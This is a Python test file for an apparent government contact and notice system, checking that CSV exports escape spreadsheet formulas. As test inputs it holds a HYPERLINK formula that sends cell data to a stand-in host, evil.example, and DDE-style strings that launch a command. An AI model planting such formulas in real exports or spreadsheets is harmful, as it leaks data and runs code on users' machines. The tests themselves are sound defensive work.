"""Every CSV export shows a formula as text: contacts (CLI), deliveries (API), subscribers (API and CLI)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from sqlmodel import Session

from contacts.crud import create_contact
from contacts.directory import directory_index
from govconnect.app import create_app
from govconnect.escaping import spreadsheet_cell, spreadsheet_record, spreadsheet_row
from govconnect.notices.pipeline_models import Delivery
from govconnect.settings import Settings
from tests.factories import make_agency, make_key
from tests.govconnect.publishing.helpers import make_notice

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


def test_spreadsheet_cell() -> None:
    for dangerous in (FORMULA, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1"):
        assert spreadsheet_cell(dangerous) == "'" + dangerous
    for plain in ("张伟", "0570-3012345", "+86 570 301-2345", "-5", "", "a=b", 42, None):
        assert spreadsheet_cell(plain) == plain
    assert spreadsheet_row(["=1", "x"]) == ["'=1", "x"]
    assert spreadsheet_record({"a": "@x", "b": 1}) == {"a": "'@x", "b": 1}


@pytest.fixture
def client(settings: Settings, engine: Engine) -> Iterator[TestClient]:
    with TestClient(create_app(settings, engine=engine)) as c:
        yield c


def test_delivery_csv_neutralises_a_providers_formula(client: TestClient, session: Session) -> None:
    agency = make_agency(session)
    key = make_key(session, agency, ["notices:read", "subscribers:read"]).key
    notice = make_notice(session, agency, channels=["sms"], public=False)
    session.add(
        Delivery(notice_id=notice.id, channel="sms", recipient="13800138000", status="failed", error_code=FORMULA)
    )
    session.commit()
    r = client.get(
        f"/api/v1/notices/{notice.id}/deliveries", params={"format": "csv"}, headers={"Authorization": f"Bearer {key}"}
    )
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert rows[0]["error_code"] == "'" + FORMULA


def test_contacts_export_neutralises_formulas(
    db_url: str, settings: Settings, session: Session, tmp_path: Path
) -> None:
    ix = directory_index(settings.data_dir)
    create_contact(session, ix, {"name": "张伟", "department": "衢州市人民政府办公室", "position": FORMULA})
    out = tmp_path / "contacts.csv"
    env = {
        **os.environ,
        "GOVCONNECT_DATABASE_URL": db_url,
        "GOVCONNECT_DATA_DIR": str(settings.data_dir),
        "GOVCONNECT_SECRET_KEY": "cli-test-secret",
        "GOVCONNECT_REDIS_URL": "",
    }
    proc = subprocess.run(  # noqa: S603
        [sys.executable, "-m", "govconnect", "contacts", "export", "--out", str(out)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[0]["position"] == "'" + FORMULA
    assert rows[0]["name"] == "张伟"
